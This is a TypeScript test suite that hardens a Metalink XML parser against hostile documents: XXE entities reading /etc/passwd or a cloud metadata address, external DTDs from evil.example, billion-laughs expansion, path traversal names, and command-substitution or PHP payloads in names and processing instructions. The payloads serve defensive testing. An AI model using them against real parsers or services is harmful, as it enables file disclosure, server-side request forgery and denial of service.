import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { ErrorCode } from '../../shared/errors.js';
import type { MetalinkFile } from './metalink-file.js';

const MAX_MS = 5_000;
const MAX_BYTES = 256 * 1024 * 1024;

const KIB = 1024;
const MIB = 1024 * KIB;
const FULL_BYTES = 16 * MIB;
const SHA256 = 'a'.repeat(64);
const GOOD = '<url>https://good.example/disk.qcow2</url>';
const NS4 = 'urn:ietf:params:xml:ns:metalink';
const NS3 = 'http://www.metalinker.org/';

const version4 = (body: string, attributes = 'name="disk.qcow2"', root = `xmlns="${NS4}"`): string =>
  `<metalink ${root}><file ${attributes}>${GOOD}${body}</file></metalink>`;

const version3 = (body: string, resources = GOOD): string =>
  `<metalink version="3.0" xmlns="${NS3}"><files><file name="disk.qcow2">${body}<resources>${resources}</resources></file></files></metalink>`;

const many = (count: number, element: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => element(index)).join('');

/** As much of something as a document of full length has room for. */
const full = (element: string): string => element.repeat(Math.floor((FULL_BYTES - 1024) / Buffer.byteLength(element)));

const nested = (depth: number): string => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
const pieces = (count: number, hash: (index: number) => string): string =>
  `<size>${count * 4096}</size><pieces type="md5" length="4096">${many(count, hash)}</pieces>`;
const laughs = many(10, (level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`);
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
const declared = (encoding: string, text = version4('')): string =>
  `<?xml version="1.0" encoding="${encoding}"?>${text}`;

type Outcome = 'read' | ErrorCode;
type Case = [name: string, outcome: Outcome, document: () => string | Buffer];

const DTD: Case[] = [
  [
    'an external entity of a file',
    'SLIPWAY_METALINK_DTD',
    () => `<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>${version4('<url>&x;</url>')}`,
  ],
  [
    'an external entity of a server',
    'SLIPWAY_METALINK_DTD',
    () => `<!DOCTYPE m [<!ENTITY x SYSTEM "http://169.254.169.254/">]>${version4('<url>&x;</url>')}`,
  ],
  [
    'parameter entities',
    'SLIPWAY_METALINK_DTD',
    () => `<!DOCTYPE m [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>${version4('')}`,
  ],
  [
    'an external subset',
    'SLIPWAY_METALINK_DTD',
    () => `<!DOCTYPE metalink PUBLIC "-//x//y" "http://evil.example/x.dtd">${version4('')}`,
  ],
  [
    'a billion laughs',
    'SLIPWAY_METALINK_DTD',
    () => `<!DOCTYPE m [<!ENTITY l0 "ha">${laughs}]>${version4('<url>&l10;</url>')}`,
  ],
  [
    'quadratic blow-up',
    'SLIPWAY_METALINK_DTD',
    () => `<!DOCTYPE m [<!ENTITY x "${'x'.repeat(100_000)}">]>${version4(`<url>${'&x;'.repeat(100_000)}</url>`)}`,
  ],
  [
    'attribute defaults',
    'SLIPWAY_METALINK_DTD',
    () => `<!DOCTYPE m [<!ATTLIST url priority CDATA "1">]>${version4('')}`,
  ],
  [
    'a document type behind comments and instructions',
    'SLIPWAY_METALINK_DTD',
    () => `<!-- x --><?x y?>\n<!DOCTYPE m>${version4('')}`,
  ],
  [
    'a document type of 15 MiB',
    'SLIPWAY_METALINK_TOO_LARGE',
    () => `<!DOCTYPE m [${'<!ENTITY x "y">'.repeat(MIB)}]>${version4('')}`,
  ],
  ['a document type that never ends', 'SLIPWAY_METALINK_INVALID', () => `<!DOCTYPE m [<!ENTITY x "y">${version4('')}`],
  ['a document type in small letters', 'SLIPWAY_METALINK_INVALID', () => `<!doctype m>${version4('')}`],
  ['a document type inside', 'SLIPWAY_METALINK_INVALID', () => version4('<!DOCTYPE m>')],
  ['an undeclared entity', 'SLIPWAY_METALINK_INVALID', () => version4('<url>https://a.example/&passwd;</url>')],
  [
    'entities named like members of objects',
    'SLIPWAY_METALINK_INVALID',
    () => version4('<url>https://a.example/&constructor;</url>'),
  ],
];

const ENCODINGS: Case[] = [
  [
    'UTF-16 with a document type',
    'SLIPWAY_METALINK_INVALID',
    () => utf16(`<!DOCTYPE m [<!ENTITY x "y">]>${version4('')}`),
  ],
  ['UTF-16, big-endian', 'SLIPWAY_METALINK_INVALID', () => utf16(version4('')).swap16()],
  ['UTF-8 that says UTF-16', 'SLIPWAY_METALINK_INVALID', () => declared('UTF-16')],
  [
    'UTF-7 with a document type',
    'SLIPWAY_METALINK_INVALID',
    () => declared('UTF-7', `+ADwAIQ-DOCTYPE m [+ADwAIQ-ENTITY x 'y'+AD4AXQA+${version4('')}`),
  ],
  ['an encoding with a long name', 'SLIPWAY_METALINK_TOO_LARGE', () => declared('x'.repeat(MIB))],
  ['Latin-1 that is ASCII', 'read', () => declared('ISO-8859-1')],
  [
    'Latin-1 that is not ASCII',
    'SLIPWAY_METALINK_INVALID',
    () => Buffer.from(declared('ISO-8859-1', version4('<a>\u00e9</a>')), 'latin1'),
  ],
  [
    'overlong UTF-8',
    'SLIPWAY_METALINK_INVALID',
    () => Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(version4(''))]),
  ],
  [
    'a character cut in two',
    'SLIPWAY_METALINK_INVALID',
    () => Buffer.from(`${version4('')}<!--\u20ac`).subarray(0, -1),
  ],
  ['a byte order mark', 'read', () => `\ufeff${version4('')}`],
  ['NUL bytes', 'SLIPWAY_METALINK_INVALID', () => version4('<a>\0</a>')],
  ['a NUL reference', 'SLIPWAY_METALINK_INVALID', () => version4('<a>&#0;</a>')],
  ['a reference beyond Unicode', 'SLIPWAY_METALINK_INVALID', () => version4('<a>&#x110000;</a>')],
  ['a surrogate reference', 'SLIPWAY_METALINK_INVALID', () => version4('<a>&#xd800;</a>')],
  ['other control characters', 'SLIPWAY_METALINK_INVALID', () => version4('<a>\u0001</a>')],
  ['compressed bytes', 'SLIPWAY_METALINK_INVALID', () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])],
];

const BULK: Case[] = [
  ['deep nesting', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(nested(100_000))],
  ['deep nesting that never ends', 'SLIPWAY_METALINK_TOO_LARGE', () => version4('<a>'.repeat(500_000))],
  ['100,000 URLs', 'read', () => version4(many(100_000, (index) => `<url>https://a.example/${index}</url>`))],
  ['a URL of 1 MiB', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(`<url>https://a.example/${'x'.repeat(MIB)}</url>`)],
  [
    'nothing but a URL of 100 KiB',
    'SLIPWAY_METALINK_NO_SOURCE',
    () => version4('').replace(GOOD, `<url>https://a.example/${'x'.repeat(100 * KIB)}</url>`),
  ],
  ['a URL of 200 KiB', 'read', () => version4(`<url>https://a.example/${'x'.repeat(200 * KIB)}</url>`)],
  [
    'a million piece hashes',
    'SLIPWAY_METALINK_TOO_LARGE',
    () => version4(pieces(1_000_000, () => `<hash>${'a'.repeat(32)}</hash>`)),
  ],
  ['a million empty piece hashes', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(pieces(1_000_000, () => '<hash/>'))],
  [
    'as many piece hashes as there is room for',
    'read',
    () => version4(pieces(350_000, () => `<hash>${'a'.repeat(32)}</hash>`)),
  ],
  [
    '100,000 lists of pieces',
    'read',
    () => version4(many(100_000, () => '<pieces type="md5" length="4096"><hash/></pieces>')),
  ],
  ['100,000 hashes', 'read', () => version4(many(100_000, () => `<hash type="sha-256">${SHA256}</hash>`))],
  [
    '1,001 files',
    'SLIPWAY_METALINK_TOO_LARGE',
    () => `<metalink xmlns="${NS4}">${many(1_001, (index) => `<file name="${index}">${GOOD}</file>`)}</metalink>`,
  ],
  [
    '1,000 files of 1,000 URLs',
    'SLIPWAY_METALINK_TOO_LARGE',
    () =>
      `<metalink xmlns="${NS4}">${many(1_000, (index) => `<file name="${index}">${'<url>a</url>'.repeat(1_000)}</file>`)}</metalink>`,
  ],
  ['16 MiB and a byte', 'SLIPWAY_METALINK_TOO_LARGE', () => version4('').padEnd(FULL_BYTES + 1)],
  ['16 MiB of blanks', 'SLIPWAY_METALINK_TOO_LARGE', () => version4('').padEnd(FULL_BYTES)],
  ['16 MiB of elements', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(full('<a/>'))],
  ['as many elements as are let through', 'read', () => version4('<a/>x'.repeat(999_000))],
  ['16 MiB of text', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(full('\u00e9'))],
  ['16 MiB of URL', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(`<url>${full('x')}</url>`)],
  ['16 MiB of references', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(full('&amp;'))],
  ['16 MiB of references in URLs', 'read', () => version4(full(`<url>${'&amp;'.repeat(50 * KIB)}</url>`))],
  ['16 MiB of references in attributes', 'read', () => version4(full(`<url a="${'&amp;'.repeat(50 * KIB)}"/>`))],
  ['an element name of 16 MiB', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(`<${full('a')}>`)],
  ['an attribute of 16 MiB', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(`<a b="${full('x')}"/>`)],
  [
    '16 MiB of attributes',
    'SLIPWAY_METALINK_TOO_LARGE',
    () => version4(`<a ${many(1_000_000, (index) => `a${index}="" `)}/>`),
  ],
  [
    'namespaces times elements',
    'SLIPWAY_METALINK_TOO_LARGE',
    () =>
      version4(
        many(30_000, () => '<a xmlns:b="x"/>'),
        `${many(30_000, (index) => `xmlns:a${index}="x" `)} name="d"`,
      ),
  ],
  ['a file name of 200 KiB', 'read', () => version4('', `name="${'x'.repeat(200 * KIB)}.qcow2"`)],
  ['a file name of 15 MiB', 'SLIPWAY_METALINK_TOO_LARGE', () => version4('', `name="${'x'.repeat(15 * MIB)}"`)],
  ['a comment of 16 MiB', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(`<!--${full('x')}-->`)],
  ['16 MiB of comments', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(full('<!---->'))],
  ['16 MiB of processing instructions', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(full('<?a?>'))],
  ['16 MiB of CDATA sections', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(full('<![CDATA[x]]>'))],
  ['16 MiB of brackets in CDATA', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(`<url><![CDATA[${full(']')}]]></url>`)],
  ['16 MiB of line ends', 'SLIPWAY_METALINK_TOO_LARGE', () => version4(full(`<url>${'\r'.repeat(250 * KIB)}</url>`))],
  [
    'as many brackets as are let through',
    'read',
    () => version4(`<url><![CDATA[${']'.repeat(250 * KIB)}]]></url>`.repeat(19)),
  ],
  ['as many dashes as are let through', 'read', () => version4(`<!--${'- '.repeat(120 * KIB)}-->`.repeat(38))],
  ['as many questions as are let through', 'read', () => version4(`<?a ${'?'.repeat(250 * KIB)}?>`.repeat(19))],
  ['as many line ends as are let through', 'read', () => version4(`<url>${'\r'.repeat(250 * KIB)}</url>`.repeat(19))],
  [
    'as many attribute line ends as are let through',
    'read',
    () => version4(`<url priority="${'\n'.repeat(250 * KIB)}"/>`.repeat(19)),
  ],
];

const STRUCTURE: Case[] = [
  ['version 3 in the namespace of version 4', 'SLIPWAY_METALINK_INVALID', () => version3('').replace(NS3, NS4)],
  ['version 4 in the namespace of version 3', 'SLIPWAY_METALINK_INVALID', () => version4('').replace(NS4, NS3)],
  [
    'a file of version 4 inside version 3',
    'SLIPWAY_METALINK_NO_SOURCE',
    () =>
      version3('', '').replace(
        '<files>',
        `<files xmlns:m="${NS4}"><m:file name="d.qcow2"><m:url>https://a.example/</m:url></m:file>`,
      ),
  ],
  [
    'both versions without a namespace',
    'read',
    () =>
      `<metalink><file name="a.qcow2">${GOOD}</file><files><file name="b.qcow2"><resources>${GOOD}</resources></file></files></metalink>`,
  ],
  ['a namespace that is nearly right', 'SLIPWAY_METALINK_INVALID', () => version3('').replace(NS3, NS3.slice(0, -1))],
  ['a prefix without a namespace', 'SLIPWAY_METALINK_INVALID', () => version4('<x:url>https://a.example/</x:url>')],
  [
    'a prefix that is redefined',
    'read',
    () =>
      `<m:metalink xmlns:m="${NS4}"><m:file name="d">${GOOD.replaceAll('url', 'm:url')}<m:size xmlns:m="urn:other">-1</m:size></m:file></m:metalink>`,
  ],
  [
    'a namespace that is taken back',
    'SLIPWAY_METALINK_NO_SOURCE',
    () => version4('').replace('<url>', '<url xmlns="">'),
  ],
  ['xmlns bound to something', 'SLIPWAY_METALINK_INVALID', () => version4('', 'name="d" xmlns:xmlns="urn:x"')],
  ['xml bound to something else', 'SLIPWAY_METALINK_INVALID', () => version4('', 'name="d" xmlns:xml="urn:x"')],
  ['two colons', 'SLIPWAY_METALINK_INVALID', () => version4('<a:b:c/>')],
  [
    'an attribute twice',
    'SLIPWAY_METALINK_INVALID',
    () => version4('<url priority="1" priority="2">https://a.example/</url>'),
  ],
  [
    'an attribute twice, by two prefixes',
    'SLIPWAY_METALINK_INVALID',
    () => version4('<a xmlns:x="urn:x" xmlns:y="urn:x" x:b="1" y:b="2"/>'),
  ],
  [
    'names of members of objects',
    'read',
    () => version4('<__proto__/><constructor/><url __proto__="x" constructor="y">https://a.example/</url>'),
  ],
  ['a file twice', 'SLIPWAY_METALINK_INVALID', () => version4(`</file><file name="disk.qcow2">${GOOD}`)],
  ['traversal names', 'read', () => version4('', 'name="../../../../etc/cron.d/disk.qcow2"')],
  ['absolute names', 'read', () => version4('', 'name="/etc/passwd"')],
  ['names of commands and lines', 'read', () => version4('', 'name="$(reboot)&#10;`reboot`;.qcow2"')],
  ['no names', 'read', () => version4('', '')],
  ['CDATA that never ends', 'SLIPWAY_METALINK_INVALID', () => version4('<![CDATA[')],
  ['the end of CDATA alone', 'SLIPWAY_METALINK_INVALID', () => version4(']]>')],
  ['CDATA around the root', 'SLIPWAY_METALINK_INVALID', () => `<![CDATA[${version4('')}]]>`],
  ['a document type in CDATA', 'read', () => version4('<a><![CDATA[<!DOCTYPE m [<!ENTITY x "y">]>]]></a>')],
  [
    'a URL in parts of CDATA and comments',
    'read',
    () => version4('<url>https://<![CDATA[a]]><!-- x --><?y?>.example/</url>'),
  ],
  ['elements inside a URL', 'read', () => version4('<url>https://a.example/<size>-1</size></url>')],
  [
    'processing instructions',
    'read',
    () => `<?xml-stylesheet href="file:///etc/passwd"?>${version4('<?php system("reboot")?>')}`,
  ],
  ['an XML declaration inside', 'SLIPWAY_METALINK_INVALID', () => version4('<?xml version="1.0"?>')],
  ['dashes in a comment', 'SLIPWAY_METALINK_INVALID', () => version4('<!-- a -- b -->')],
  ['two roots', 'SLIPWAY_METALINK_INVALID', () => version4('') + version4('')],
  ['text behind the root', 'SLIPWAY_METALINK_INVALID', () => `${version4('')}x`],
  [
    'XInclude',
    'read',
    () => version4('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
  ],
  ['nothing', 'SLIPWAY_METALINK_INVALID', () => ''],
  [
    'a web page',
    'SLIPWAY_METALINK_INVALID',
    () => '<!DOCTYPE html><html><body><url>https://a.example/</url></body></html>',
  ],
  ['JSON', 'SLIPWAY_METALINK_INVALID', () => '{"url":"https://a.example/"}'],
  ...[0.1, 0.5, 0.9, 0.999].map((part): Case => [
    `nothing beyond ${part} of it`,
    'SLIPWAY_METALINK_INVALID',
    () => version4('').slice(0, Math.floor(version4('').length * part)),
  ]),
];

const NUMBERS = [
  '-1',
  '+1',
  '1.5',
  '1e3',
  '0x10',
  '99999999999999999999',
  '9007199254740993',
  'NaN',
  '1 2',
  '\u0661',
  '',
];

const NUMBER_CASES: Case[] = NUMBERS.map((number) => [
  `the number "${number}" everywhere`,
  'read',
  () =>
    version4(`<size>${number}</size><url priority="${number}">https://a.example/</url>
      <pieces type="sha-256" length="${number}"><hash piece="${number}">${SHA256}</hash></pieces>`),
]);

const CASES = [...DTD, ...ENCODINGS, ...BULK, ...STRUCTURE, ...NUMBER_CASES];

interface Reading {
  outcome: Outcome;
  message?: string;
  file?: MetalinkFile;
  ms: number;
}

/** Reads one file after the other, as a host worker would, and measures. */
const PROGRAM = `
  import { readFileSync } from 'node:fs';
  import { parseMetalink } from ${JSON.stringify(join(import.meta.dirname, 'parse-metalink.ts'))};
  const context = { documentUrl: 'https://origin.example/d.meta4', format: 'QCOW2', mirrorLocations: [] };
  const readings = process.argv.slice(1).map((path) => {
    const document = readFileSync(path);
    const started = process.cpuUsage();
    // Of the processor: on a busy machine it is the same.
    const took = () => (({ user, system }) => (user + system) / 1000)(process.cpuUsage(started));
    try {
      const { pieces, ...file } = parseMetalink(document, context);
      return { outcome: 'read', file: { ...file, ...(pieces && { pieces: { ...pieces, values: [] } }) }, ms: took() };
    } catch (error) {
      return { outcome: error.code ?? String(error.stack), message: error.message, ms: took() };
    }
  });
  // maxRSS would be that of whoever started this process, when that is more: Linux hands it on.
  const peakKib = /^VmHWM:\\s+(\\d+) kB$/m.exec(readFileSync('/proc/self/status', 'utf8'))[1];
  console.log(JSON.stringify({ readings, peakBytes: peakKib * 1024 }));`;

describe('a hostile document', () => {
  let readings: Map<string, Reading>;
  let peakBytes: number;

  beforeAll(async () => {
    const directory = await mkdtemp(join(tmpdir(), 'hostile-metalinks-'));
    try {
      const paths: string[] = [];
      for (const [index, [, , document]] of CASES.entries()) {
        const path = join(directory, `${index}.meta4`);
        await writeFile(path, document());
        paths.push(path);
      }
      const { stdout } = await promisify(execFile)(
        process.execPath,
        ['--import', 'tsx', '--input-type=module', '-e', PROGRAM, ...paths],
        { maxBuffer: 64 * MIB },
      );
      const answer = JSON.parse(stdout) as { readings: Reading[]; peakBytes: number };
      readings = new Map(CASES.map(([name], index) => [name, answer.readings[index] as Reading]));
      peakBytes = answer.peakBytes;
    } finally {
      await rm(directory, { recursive: true });
    }
  }, 120_000);

  it('should have a name of its own', () => {
    expect(readings.size).toBe(CASES.length);
  });

  it.each(CASES)('with %s should be: %s', (name, outcome) => {
    const reading = readings.get(name);
    expect(reading).toMatchObject({ outcome });
    expect(reading?.ms).toBeLessThan(MAX_MS);
    // What is said of it goes to lists and logs.
    expect(reading?.message ?? 'x').toMatch(/^[^\p{Cc}]{1,800}$/u);
    expect(JSON.stringify(reading).length).toBeLessThan(MIB);
  });

  it.each(CASES.filter(([, outcome]) => outcome === 'read').map(([name]) => name))(
    'with %s should keep its good URL',
    (name) => {
      const file = readings.get(name)?.file;
      expect(file?.tiers.flatMap(({ urls }) => urls)).toContain('https://good.example/disk.qcow2');
      expect(file?.dropped.length).toBeLessThanOrEqual(1000);
    },
  );

  it.each(NUMBER_CASES.map(([name]) => name))('with %s should not have it believed anywhere', (name) => {
    const file = readings.get(name)?.file;
    expect(file).not.toHaveProperty('sizeBytes');
    expect(file).not.toHaveProperty('pieces');
    expect(file?.tiers).toEqual([{ priority: 999999, urls: ['https://good.example/disk.qcow2'] }]);
    expect(file?.dropped).toHaveLength(3);
  });

  it('should leave no trace of what it claims to be called', () => {
    expect(readings.get('names of commands and lines')?.file?.name).toBe('$(reboot) `reboot`;.qcow2');
    expect(readings.get('a file name of 200 KiB')?.file?.name).toHaveLength(100);
  });

  it('should take less than 256 MiB, also after all the others', () => {
    expect(peakBytes).toBeLessThan(MAX_BYTES);
  });
});
